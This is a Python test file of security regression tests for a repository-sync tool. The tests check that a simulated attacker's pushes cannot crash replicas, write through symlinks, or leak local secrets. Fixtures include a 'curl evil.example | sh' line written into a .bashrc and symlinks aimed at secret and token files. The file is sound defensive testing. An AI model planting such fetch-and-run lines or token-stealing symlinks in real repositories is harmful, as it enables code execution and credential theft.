"""The two critical findings of the hostile-remote review: one pushed line must not
brick a replica, and nothing pushed may make a replica read or write outside its
repository."""

from __future__ import annotations

import json

from hostile_helpers import links_under, team_with_history
from thrum.sync.trees import MAX_FILE_BYTES

MiB = 2**20

DEEP = "[" * 50_000 + "]" * 50_000


def _hostile_create(agent: str, structured: str) -> bytes:
    return json.dumps(
        {
            "type": "message.create",
            "timestamp": "2026-11-25T22:19:15.134Z",
            "event_id": "01M8ACN9SYMYW50R9TX6PE5GS5",
            "v": 1,
            "message_id": "msg_01JD5QA0B1C2D3E4F5G6H7J8K9",
            "thread_id": "thr_01JD5QA0B1C2D3E4F5G6H7J8KA",
            "agent_id": agent,
            "session_id": "ses_01JD5Q9W1Z8X7Y6V5T4S3R2Q1P",
            "body": {"format": "markdown", "content": "boom", "structured": structured},
        }
    ).encode()


def test_a_deeply_nested_line_is_quarantined_and_every_replica_keeps_working(team):
    t, a, b = team_with_history(team)
    mallory = t.attacker()
    mallory.append(mallory.file_of("messages", "bob"), _hostile_create("bob", DEEP))
    mallory.push()

    a.sync()  # exits 0 (Machine.run checks)
    status = a.json("sync", "status")
    assert status["quarantined"] >= 1
    a.run("daemon", "restart")
    inbox = a.json("inbox", agent="alice")
    assert [m["body"]["content"] for m in inbox["messages"]] == ["hello alice"]

    # A rebuild from the log (no projection at all) starts too.
    a.run("daemon", "stop")
    (a.paths.var / "messages.db").unlink()
    inbox = a.json("inbox", agent="alice")
    assert [m["body"]["content"] for m in inbox["messages"]] == ["hello alice"]

    # The line is kept (the log is append-only) and replicates without harm.
    b.sync()
    assert b.json("sync", "status")["quarantined"] >= 1
    assert any(b"boom" in line for line in (b.worktree / mallory.file_of("messages", "bob")).read_bytes().splitlines())


def test_a_symlinked_directory_is_never_written_through(team, tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    t, a, b = team_with_history(team)
    mallory = t.attacker()
    mallory.remove("receipts") if any(f.startswith("receipts/") for f in mallory.files()) else None
    mallory.symlink("receipts", str(outside))
    mallory.symlink("notes", str(outside))
    mallory.push("link receipts/ and notes/ out of the repository")

    c = t.fresh_clone("c")  # attaches to the hostile branch
    assert links_under(c.worktree) == []
    c.agent("carol", "tester")

    mallory.pull()
    mallory.remove("receipts")
    mallory.remove("notes")
    mallory.write("receipts/bob/000001.jsonl", b'{"not":"an event"}\n')
    mallory.write("notes/.bashrc", b"curl evil.example | sh\n")
    mallory.push("turn the links into directories")

    for m in (c, a):
        m.run("send", "still here", "--to", "@alice", agent="carol" if m is c else "alice")
        m.sync()
        assert links_under(m.worktree) == []
        assert not (m.worktree / "notes").exists()
    assert list(outside.iterdir()) == []


def test_a_file_symlink_never_leaks_a_local_file_to_the_remote(team, tmp_path):
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-TOKEN\n")
    t, a, b = team_with_history(team)
    mallory = t.attacker()
    mallory.symlink("messages/carol/000001.jsonl", str(secret))
    mallory.symlink("messages/dave/000001.jsonl", "../../../../.thrum/var/ws.token")
    mallory.push("links to local secrets")

    c = t.fresh_clone("c")
    assert links_under(c.worktree) == []
    token = (c.paths.var / "ws.token").read_text().strip() if (c.paths.var / "ws.token").exists() else None
    c.agent("carol", "tester")

    mallory.pull()
    mallory.write("messages/carol/000001.jsonl", b'{"junk":1}\n')
    mallory.write("messages/dave/000001.jsonl", b'{"junk":2}\n')
    mallory.push("links become files")
    c.run("send", "hi", "--to", "@alice", agent="carol")
    c.sync()
    a.sync()

    blobs = mallory.remote_blobs()
    assert b"TOP-SECRET-TOKEN" not in blobs
    if token:
        assert token.encode() not in blobs


def test_a_huge_line_refuses_its_tip_and_syncing_goes_on_once_it_is_gone(team):
    """Its file is over the size any log file has: judged by its header, never read, and
    the tip that brings it is refused whole (test_hostile_intake); nothing else stops.
    (The finding's line was 100 MB; every size over `MAX_FILE_BYTES` and under the intake
    bound takes this path, so the push here is 4 MiB over it.)"""
    t, a, b = team_with_history(team)
    mallory = t.attacker()
    path = mallory.file_of("messages", "bob")
    honest = (mallory.dir / path).read_bytes()
    huge = json.dumps(
        {
            "type": "message.create",
            "event_id": "01M8ACN9SYMYW50R9TX6PE5GS9",
            "padding": "x" * (MAX_FILE_BYTES + 4 * MiB),
        }
    ).encode()
    mallory.append(path, huge)
    mallory.push("one valid JSON line larger than any log file")
    proc = a.run("sync", check=False)
    assert proc.returncode != 0 and path in proc.stderr and len(proc.stderr.strip().splitlines()) == 1
    a.run("send", "written meanwhile", "--to", "@bob", agent="alice")  # local work goes on
    mallory.pull()  # the team puts bob's file back as it was
    mallory.write(path, honest)
    mallory.push("repaired")
    b.run("send", "after the big line", "--to", "@alice", agent="bob")
    b.sync()
    a.sync()
    b.sync()
    inbox = a.json("inbox", agent="alice")
    assert "after the big line" in [m["body"]["content"] for m in inbox["messages"]]
    assert "written meanwhile" in [m["body"]["content"] for m in b.json("inbox", agent="bob")["messages"]]
